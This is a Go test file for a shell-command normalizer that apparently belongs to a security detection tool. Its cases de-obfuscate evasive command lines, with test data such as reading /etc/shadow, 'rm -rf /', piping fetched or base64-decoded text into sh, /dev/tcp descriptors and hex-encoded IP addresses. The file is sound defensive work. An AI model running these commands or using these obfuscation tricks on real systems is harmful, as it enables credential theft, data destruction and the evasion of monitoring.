package respell_test

import (
	"strings"
	"testing"

	"github.com/holdfast-security/holdfast/detect/respell"
)

func TestTextOfShell(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"single quotes", `c'u'rl -s http://x/`, "curl -s http://x/"},
		{"double quotes", `"curl" "/etc/shadow"`, "curl /etc/shadow"},
		{"backslashes", `c\ur\l -s`, "curl -s"},
		{"continued", "cu\\\nrl \\\n -s", "curl -s"},
		{"operator in quotes", `echo "a; rm -rf /" 'b | c'`, ""},
		{"quoted operator stays", `echo \; c'a't`, `echo \; cat`},
		{"field separator", `cat${IFS}/etc/shadow$IFS$9`, "cat /etc/shadow"},
		{"quoted field separator", `echo "$IFS" c"a"t`, `echo $IFS cat`},
		{"ANSI-C", `$'\x63\165rl' -s`, "curl -s"},
		{"variables", `a=cu;b=rl;$a$b -s`, "curl -s"},
		{"variable with words", `c="rm -rf /x"; $c`, `rm -rf /x`},
		{"unknown variable", `"$HOME"/.ssh/x`, "$HOME/.ssh/x"},
		{"first of PATH", `cat ${PATH:0:1}etc${PATH:0:1}shadow`, "cat /etc/shadow"},
		{"substitution", "$(echo cu)rl `printf %s -s`", "curl -s"},
		{"open substitution", `echo "$(c'a't /x)"`, "echo $(cat /x)"},
		{"wrappers", `X=1 env -i Y=2 -u Z command busybox wget x; exec id`, "wget x ; id"},
		{"wrapper alone", `env`, ""},
		{"setting alone", `A=b; "id"; B=$C; id; D=e`, "id ; B=$C ; id ; D=e"},
		{"paths", `cat //etc/./shadow /etc/../etc/x//y /a/`, "cat /etc/shadow /etc/x/y /a/"},
		{"directories of programs", `/usr/bin/curl x|/bin/sh`, "curl x | sh"},
		{"white space", "curl \t -s   x", "curl -s x"},
		{"lines", "id\n\nwhoami |\n cat\n", "id ; whoami | cat"},
		{"base64", `echo aWQgLXU= | base64 -d | sh`, "echo aWQgLXU= | base64 -d | sh ; id -u"},
		{"base64 of a string", `sh <<< "$(base64 --decode <<< aWQgLXU=)"; id`, `sh <<< "$(base64 --decode <<< aWQgLXU=)" ; id -u ; id`},
		{"hex and eval", `eval "$(echo 6964 | xxd -r -p)"`, "eval id"},
		{"backwards", `echo 'u- di'|rev|bash`, "echo 'u- di' | rev | bash ; id -u"},
		{"eval", `eval 'c"u"rl x | sh'`, "eval curl x | sh"},
		{"shell in shell", `nohup 'x'; bash -c "bash -c 'c\url -s'" &`, "nohup x ; bash -c bash -c curl -s &"},
		{"braces", `{curl,-s,http://x/}`, "curl -s http://x/"},
		{"group", `{ c'a't x; }`, "cat x ;"},
		{"subshell", `(c'a't x) | (sh)`, "cat x | sh"},
		{"descriptor", `exec 3<>"/dev/tcp/x/1"`, "exec 3<>/dev/tcp/x/1"},
		{"here document", "cat <<EOF\nc'a't\nEOF\n", ""},
		{"address", `curl HTTP://EXAMPLE.org/A//b?u=http://X/`, "curl http://example.org/A/b?u=http://X/"},
		{"address as number", "curl http://0x7f.1:80/ http://3325256711/ http://0306.51.100.7/", "curl http://127.0.0.1:80/ http://198.51.100.7/ http://198.51.100.7/"},
		{"redirections", `c'a't x 2>&1 >/dev/null`, "cat x 2>&1 >/dev/null"},
		{"keyword", `if "true"; then /bin/ls; fi`, "if true ; then ls ; fi"},
		{"open quote", `echo 'abc`, "echo abc"},
		{"open parenthesis", `echo $(id`, "echo $(id)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := "sh -c " + tt.want
			if tt.want == "" {
				want = ""
			}
			if got, _ := respell.Line([]string{"sh", "-c", tt.text}, "/usr/bin/dash", "sh -c "+tt.text); got != want && !(want == "" && got == "sh -c "+tt.text) {
				t.Errorf("%q\n got %q\nwant %q", tt.text, got, want)
			}
		})
	}
}

func TestArguments(t *testing.T) {
	tests := []struct{ name, executable, line, want string }{
		{"plain", "/usr/bin/curl", "curl -s http://example.org/a", ""},
		{"paths", "/usr/bin/cat", "cat //etc//shadow --x=/a/../b /usr/./lib/", "cat /etc/shadow --x=/b /usr/lib/"},
		{"relative paths", "/usr/bin/cat", "cat ../../x/./y ./a//b s//x/g", "cat ../../x/./y ./a/b s//x/g"},
		{"host", "/usr/bin/curl", "curl HTTP://Example.ORG/A", "curl http://example.org/A"},
		{"false name", "/usr/bin/curl", "update -s x", "curl -s x"},
		{"name of a kind", "/usr/bin/python3.11", "python3 -c x", ""},
		{"logon shell", "/usr/bin/bash", "-bash", ""},
		{"busybox", "/usr/bin/busybox", "busybox wget -q x", "wget -q x"},
		{"applet by name", "/usr/bin/busybox", "wget -q x", ""},
		{"busybox help", "/usr/bin/busybox", "busybox --help", ""},
		{"quotes of no shell", "/usr/bin/printf", `printf 'a'`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, changed := respell.Line(strings.Split(tt.line, " "), tt.executable, tt.line)
			if changed != (tt.want != "") || changed && got != tt.want {
				t.Errorf("%q\n got %q, %v\nwant %q", tt.line, got, changed, tt.want)
			}
		})
	}
}

func TestNames(t *testing.T) {
	tests := []struct {
		name, comm, executable, script, line, want string
	}{
		{"same", "curl", "/usr/bin/curl", "", "curl", "curl"},
		{"cut off", "gnome-screensho", "/usr/bin/gnome-screenshot", "", "x", "gnome-screensho"},
		{"link", "update", "/usr/bin/curl", "", "/tmp/update", "update curl"},
		{"script", "backup.sh", "/usr/bin/bash", "/srv/backup.sh", "/bin/bash /srv/backup.sh", "backup.sh"},
		{"applet", "busybox", "/usr/bin/busybox", "", "busybox wget x", "busybox wget"},
		{"linked applet", "wget", "/usr/bin/busybox", "", "wget x", "wget busybox"},
		{"unnamed", "", "/usr/bin/curl", "", "curl", "curl"},
		{"unknown", "curl", "", "", "curl", "curl"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := strings.Join(respell.Names(nil, tt.comm, tt.executable, tt.script, strings.Fields(tt.line)), " "); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestBounds(t *testing.T) {
	for name, text := range map[string]string{
		"doubling":           "a=xxxxxxxxxxxxxxxx;" + strings.Repeat("a=$a$a;", 200) + "$a",
		"deep":               strings.Repeat("$(echo ", 5000) + "x" + strings.Repeat(")", 5000),
		"deep evals":         strings.Repeat("eval ", 5000) + "'x'",
		"many quotes":        strings.Repeat("'", 30000),
		"many names":         strings.Repeat("env ", 7000),
		"long":               strings.Repeat("'a'", 20000),
		"long pipe":          "echo " + strings.Repeat("a", 8000) + strings.Repeat("|rev", 5000) + "|sh",
		"nested pipes":       strings.Repeat("$(echo `", 2000) + strings.Repeat("|rev`)", 2000),
		"nested quotes":      strings.Repeat("\"$(echo ", 3000) + strings.Repeat(")\"", 3000),
		"addresses":          strings.Repeat("http://A//", 3000),
		"open substitutions": strings.Repeat("$(", 15000),
		"open braces":        strings.Repeat("${", 15000),
		"many evals":         strings.Repeat("eval 'eval x';", 2000),
		"many substituted":   strings.Repeat("$(echo aaaaaaaaaaaaaaaaaaaaaaaaa)", 900),
	} {
		t.Run(name, func(t *testing.T) {
			if got, _ := respell.Line([]string{"sh", "-c", text}, "", "sh -c "+text); len(got) > 3*64<<10 {
				t.Errorf("%d bytes of %d", len(got), len(text))
			}
		})
	}
}

func FuzzLine(f *testing.F) {
	for _, seed := range []string{
		`c'u'"r"\l $'\x41' ${IFS} $(echo a|base64 -d) {a,b} <<<x`, "a=b;$a `id` <(x) ((1)) if x; then y; fi\n", `env -u X busybox sh -c 'eval "x"'`,
		"curl http://0x7f000001/ //a/../b", "$", "${", "$(", "'", `"\`, "echo x | xxd -r -p | sh", `printf '\1\u12' | rev | bash`,
	} {
		f.Add(seed, true)
		f.Add(seed, false)
	}
	f.Fuzz(func(t *testing.T, text string, shell bool) {
		argv := strings.Split(text, " ")
		if shell {
			argv = []string{"bash", "-c", text}
		}
		line := strings.Join(argv, " ")
		got, changed := respell.Line(argv, "/usr/bin/bash", line)
		if changed == (got == line || got == "") && changed {
			t.Errorf("%q changed to %q", line, got)
		}
		if len(got) > 4*64<<10 {
			t.Errorf("%d bytes of %d", len(got), len(text))
		}
		respell.Names(nil, text, text, "", argv)
	})
}
